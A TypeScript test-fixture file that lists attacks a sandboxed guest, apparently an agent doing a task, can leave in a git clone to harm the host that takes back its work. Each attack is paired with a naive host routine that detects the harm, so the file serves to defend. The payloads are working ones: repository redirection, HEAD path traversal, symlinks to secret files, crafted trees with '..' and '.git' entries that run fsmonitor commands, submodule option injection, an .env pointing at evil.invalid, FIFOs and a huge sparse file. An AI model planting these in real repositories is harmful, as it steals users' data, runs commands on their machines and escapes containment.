import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import { run } from '../../lib/processes/spawn.ts'
import type { Fixture, LeftBehind, NaiveHost } from '../attack.ts'
import { fallsOver, fetches, hasObject, naiveGit, reads, receiverOf, waitsFor } from '../naive-hosts.ts'

const history = { kind: 'left-behind', rule: 'history is checked' } as const
const waiting = { kind: 'left-behind', rule: 'limits hold' } as const

const inClone = (...calls: readonly string[]): string => calls.map((call) => `git -C "$REPO" ${call}`).join('; ')

/** Fetches the other repository's commit from the clone: git hands out what it finds, wherever that lies. */
const stealsCommit: NaiveHost = async (fixture) =>
  await fetches([`+${fixture.otherCommit}:refs/heads/stolen`], async (receiver) =>
    (await hasObject(receiver, fixture.otherCommit)) ? ["brought in another repository's content"] : [],
  )(fixture)

/** Writes files by the names that a tree gives them, as a program with a git library of its own may. */
const unpacks: NaiveHost = async (fixture) => {
  const folder = join(dirname(fixture.marker), 'unpacked')
  for (const revision of ['HEAD~1', 'HEAD']) {
    const entries = (await naiveGit(fixture.repo, ['ls-tree', '-r', '-z', revision])).split('\0').filter(Boolean)
    for (const entry of entries) {
      const [description = '', path = ''] = entry.split('\t')
      const [mode = '', , blob = ''] = description.split(' ')
      if (mode === '160000') continue
      const content = await naiveGit(fixture.repo, ['cat-file', 'blob', blob])
      const full = `${folder}/${path}`
      await mkdir(dirname(full), { recursive: true })
      if (mode === '120000')
        await symlink(content, full).catch(() => undefined) // An entry before it has the name.
      else await writeFile(full, content)
    }
  }
  return []
}

/** A commit on top whose tree has one entry more: a folder of that name with the file `marker` in it. */
const treeWith = (folder: string): string => `
  blob=$(git -C "$REPO" rev-parse HEAD:a.txt)
  inner=$(printf '100644 blob %s\\tmarker\\n' "$blob" | git -C "$REPO" mktree)
  tree=$(perl -e 'print "40000 ${folder}\\0", pack("H*", $ARGV[0])' "$inner" | git -C "$REPO" hash-object -t tree --literally -w --stdin)
  git -C "$REPO" update-ref HEAD "$(echo Evil | git -C "$REPO" commit-tree "$tree" -p HEAD)"`

const overwritesEnv: NaiveHost = async (fixture) => {
  const receiver = receiverOf(fixture)
  const before = await readFile(join(receiver, '.env'), 'utf8')
  await fetches(['HEAD'], async () => [], ['merge', '--ff-only', 'FETCH_HEAD'])(fixture)
  return before === (await readFile(join(receiver, '.env'), 'utf8')) ? [] : ['overwrote an ignored file of the user']
}

const clonesSubmodule: NaiveHost = async ({ repo }) => {
  const said = async (name: string) =>
    (await naiveGit(repo, ['config', '--file', '.gitmodules', `submodule.x.${name}`])).trim()
  await run('git', ['clone', '--quiet', await said('url'), await said('path')], { cwd: repo })
  return []
}

const followsHead: NaiveHost = async ({ repo, secret }) => {
  const name = (await readFile(join(repo, '.git/HEAD'), 'utf8')).replace('ref: ', '').trim()
  const text = await readFile(join(repo, '.git', name), 'utf8')
  return text.includes(secret) ? ['read a file of the host as a branch'] : []
}

const logsFromStart: NaiveHost = async ({ repo, share }) => {
  await naiveGit(repo, ['log', (await readFile(join(share, 'start-ref'), 'utf8')).trim()])
  return []
}

/** Whether a git command in the receiver says these words. */
const saysIn =
  (args: readonly string[], words: string, harm: string) =>
  async (receiver: string): Promise<readonly string[]> =>
    (await naiveGit(receiver, args)).includes(words) ? [harm] : []

const losesStart = async (receiver: string, _fixture: Fixture): Promise<readonly string[]> =>
  (await naiveGit(receiver, ['log', '--format=%s', 'main'])).includes('Start') ? [] : ["lost the user's own commits"]

/** Puts the task's branch at the commit of the other repository, as if it were the work. */
const branch = 'echo "$OTHER_COMMIT" >"refs/heads/$BRANCH"'

/** Redirections of a repository to the user's other one, which a naive fetch follows. */
const redirections: readonly (readonly [name: string, tries: string, guest: string])[] = [
  [
    'alternates',
    'Names the objects of another repository as its own.',
    `echo "$OTHER/.git/objects" >objects/info/alternates; ${branch}`,
  ],
  ['commondir', 'Names another repository as its common folder.', 'echo "$OTHER/.git" >commondir'],
  [
    'git-is-a-file',
    'Leaves a file that leads to another repository as .git.',
    'cd ..; rm -r .git; echo "gitdir: $OTHER/.git" >.git',
  ],
  ['git-is-a-link', 'Leaves a link to another repository as .git.', 'cd ..; rm -r .git; ln -s "$OTHER/.git" .git'],
  [
    'objects-are-a-link',
    "Leaves a link to another repository's objects as its own.",
    `mv objects old; ln -s "$OTHER/.git/objects" objects; ${branch}`,
  ],
  [
    'packs-are-a-link',
    "Leaves a link to another repository's packs as its own.",
    `mv objects/pack old; ln -s "$OTHER/.git/objects/pack" objects/pack; ${branch}`,
  ],
]

export const historyAttacks: readonly LeftBehind[] = [
  ...redirections.map(([name, tries, guest]) => ({
    ...history,
    name,
    tries,
    guest: `mkdir -p "$REPO/.git/objects/info"; (cd "$REPO/.git"; ${guest})`,
    naive: stealsCommit,
  })),
  {
    ...history,
    name: 'head-leads-outside',
    tries: 'Writes a HEAD that names a file of the host.',
    guest: 'echo "ref: ../../../../../../../../../../../../..$SECRET_FILE" >"$REPO/.git/HEAD"',
    naive: followsHead,
  },
  {
    ...history,
    name: 'lfs-object-is-a-link',
    tries: 'Leaves a link to a file of the host among the objects of Git LFS.',
    guest:
      'mkdir -p "$REPO/.git/lfs/objects/aa/aa"; ln -s "$SECRET_FILE" "$REPO/.git/lfs/objects/aa/aa/$(printf "a%.0s" {1..64})"',
    naive: reads('repo', `.git/lfs/objects/aa/aa/${'a'.repeat(64)}`),
  },
  {
    ...history,
    name: 'files-are-links',
    tries: 'Replaces files of its clone by links to files of the host.',
    guest:
      'ln -sf "$SECRET_FILE" "$REPO/a.txt"; ln -s "$SECRET_FILE" "$REPO/.gitignore.new"; ln -s "$SECRET_FILE" "$REPO/.mailmap"',
    naive: reads('repo', 'a.txt'),
  },
  {
    ...history,
    name: 'replaced-objects',
    tries: "Replaces an object of the user's, so that every later look at it shows another.",
    guest: 'evil=$(echo REPLACED | git -C "$REPO" hash-object -w --stdin); git -C "$REPO" replace HEAD:a.txt "$evil"',
    naive: fetches(
      ['+refs/*:refs/*'],
      saysIn(['show', 'main:a.txt'], 'REPLACED', "changed what the user's commits show"),
    ),
  },
  {
    ...history,
    name: 'branch-of-the-user',
    tries: "Makes a branch with the name of one of the user's.",
    guest: inClone('commit -q --allow-empty -m Evil', 'update-ref refs/heads/topic HEAD'),
    naive: fetches(
      ['+refs/heads/*:refs/heads/*'],
      saysIn(['log', '--format=%s', 'topic'], 'Evil', "moved a branch of the user's"),
    ),
  },
  {
    ...history,
    name: 'tags-that-follow',
    tries: 'Makes a tag that comes along with its commits.',
    guest: inClone('commit -q --allow-empty -m Evil', 'tag v2 HEAD'),
    naive: fetches(['+refs/heads/*:refs/remotes/task/*'], saysIn(['tag'], 'v2', "made a tag among the user's")),
  },
  {
    ...history,
    name: 'history-rewritten',
    tries: "Leaves a history that knows nothing of the user's commits.",
    guest: inClone('checkout -q --orphan fresh', 'commit -q -m Fresh', 'branch -q -M "$BRANCH"'),
    naive: fetches(['HEAD'], losesStart, ['reset', '--hard', 'FETCH_HEAD']),
    ends: 'beside',
  },
  {
    ...history,
    name: 'start-is-an-option',
    tries: 'Writes an option of git as the commit that it started from.',
    guest: 'echo "--output=$VICTIM/keep.txt" >"$SHARE/start-ref"',
    naive: logsFromStart,
  },
  {
    ...history,
    name: 'tree-leads-up',
    tries: 'Commits a tree with an entry named `..`.',
    guest: treeWith('..'),
    naive: unpacks,
  },
  {
    ...history,
    name: 'tree-holds-git',
    tries: 'Commits a tree with settings in an entry named `.git`.',
    guest: `printf '[core]\\n\\tfsmonitor = "%s"\\n' "$FIRE" >"$REPO/c"
      blob=$(git -C "$REPO" hash-object -w "$REPO/c")
      inner=$(printf '100644 blob %s\\tconfig\\n' "$blob" | git -C "$REPO" mktree)
      tree=$(perl -e 'print "40000 .git\\0", pack("H*", $ARGV[0])' "$inner" | git -C "$REPO" hash-object -t tree --literally -w --stdin)
      git -C "$REPO" update-ref HEAD "$(echo Evil | git -C "$REPO" commit-tree "$tree" -p HEAD)"`,
    naive: async (fixture) => {
      await run('git', ['init', '--quiet', join(dirname(fixture.marker), 'unpacked')])
      await unpacks(fixture)
      await naiveGit(join(dirname(fixture.marker), 'unpacked'), ['status'])
      return []
    },
  },
  {
    ...history,
    name: 'through-a-committed-link',
    tries: 'Commits a link to a folder of the host, then a file behind it.',
    guest: `ln -s "$VICTIM" "$REPO/out"; ${inClone('add out', 'commit -q -m Link')}; rm "$REPO/out"
      mkdir "$REPO/out"; echo overwritten >"$REPO/out/keep.txt"; ${inClone('add -A', 'commit -q -m File')}`,
    naive: unpacks,
  },
  {
    ...history,
    name: 'ignored-file-of-the-user',
    tries: "Commits a file that the user's checkout has and ignores.",
    guest: `echo 'API=http://evil.invalid' >"$REPO/.env"; ${inClone('add -f .env', 'commit -q -m Env')}`,
    naive: overwritesEnv,
    ends: 'kept',
  },
  {
    ...history,
    name: 'submodule-address-is-an-option',
    tries: 'Commits a submodule whose address is an option of git clone.',
    guest: `printf '[submodule "x"]\\n\\tpath = ../repo\\n\\turl = --upload-pack=%s\\n' "$FIRE" >"$REPO/.gitmodules"; ${inClone('add .gitmodules', 'commit -q -m Module')}`,
    naive: clonesSubmodule,
  },
  {
    ...history,
    name: 'unsound-commit',
    tries: 'Commits an object that git itself takes for broken.',
    guest: `commit=$(printf 'tree %s\\nparent %s\\nauthor nobody\\ncommitter nobody\\n\\nEvil\\n' "$(git -C "$REPO" rev-parse 'HEAD^{tree}')" \\
      "$(git -C "$REPO" rev-parse HEAD)" | git -C "$REPO" hash-object -t commit --literally -w --stdin)
      git -C "$REPO" update-ref HEAD "$commit"`,
    naive: fetches(['+HEAD:refs/heads/task'], saysIn(['fsck'], 'error in commit', "broke the user's repository")),
  },
  {
    ...waiting,
    name: 'patterns-are-a-fifo',
    tries: 'Leaves a FIFO as .gitignore of a folder, for git to wait on.',
    guest: 'mkfifo "$REPO/dir/.gitignore"',
    naive: waitsFor('repo', 'dir/.gitignore', ['git', 'status']),
  },
  {
    ...waiting,
    name: 'index-is-a-fifo',
    tries: "Leaves a FIFO as its clone's index.",
    guest: 'rm -f "$REPO/.git/index"; mkfifo "$REPO/.git/index"',
    naive: waitsFor('repo', '.git/index', ['git', 'status']),
  },
  {
    ...waiting,
    name: 'pack-is-a-fifo',
    tries: 'Leaves a FIFO among its packs.',
    guest: `mkfifo "$REPO/.git/objects/pack/pack-$(printf 'a%.0s' {1..40}).idx"; : >"$REPO/.git/objects/pack/pack-$(printf 'a%.0s' {1..40}).pack"`,
    naive: waitsFor('repo', `.git/objects/pack/pack-${'a'.repeat(40)}.idx`, ['git', 'cat-file', '-e', 'f'.repeat(40)]),
  },
  {
    ...waiting,
    name: 'file-of-8-tib',
    tries: 'Makes a file of 8 TiB in its clone, all of it a hole.',
    guest: 'truncate -s 8T "$REPO/big"',
    naive: fallsOver('repo', 'big'),
  },
]
